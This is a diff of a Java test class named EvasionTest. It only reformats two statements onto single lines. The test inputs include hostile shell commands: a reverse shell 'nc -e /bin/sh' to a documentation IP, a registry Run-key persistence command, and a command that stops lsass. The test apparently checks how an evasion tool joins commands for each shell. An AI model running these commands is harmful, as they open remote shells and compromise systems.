@@ -38,8 +38,7 @@ class EvasionTest {
   void joinsAsTheShellOfTheLineAllows() {
     for (long seed = 0; seed < 20; seed++) {
       assertThat(before("reg add HKLM\\Run /v a", "windows", seed)).doesNotContain(";", "\n");
-      assertThat(before("Get-Process lsass | Stop-Process", "windows", seed))
-          .doesNotContain("&&");
+      assertThat(before("Get-Process lsass | Stop-Process", "windows", seed)).doesNotContain("&&");
     }
     assertThat(before("nc -e /bin/sh 192.0.2.1 1", "linux", 3)).containsAnyOf(";", "&&", "\n");
   }
@@ -135,8 +134,7 @@ class EvasionTest {
   }
 
   private static String output(String line) throws IOException, InterruptedException {
-    Process shell =
-        new ProcessBuilder(SH.toString(), "-c", line).redirectErrorStream(true).start();
+    Process shell = new ProcessBuilder(SH.toString(), "-c", line).redirectErrorStream(true).start();
     shell.getOutputStream().close();
     String output = new String(shell.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
     assertThat(shell.waitFor(10, TimeUnit.SECONDS)).isTrue();
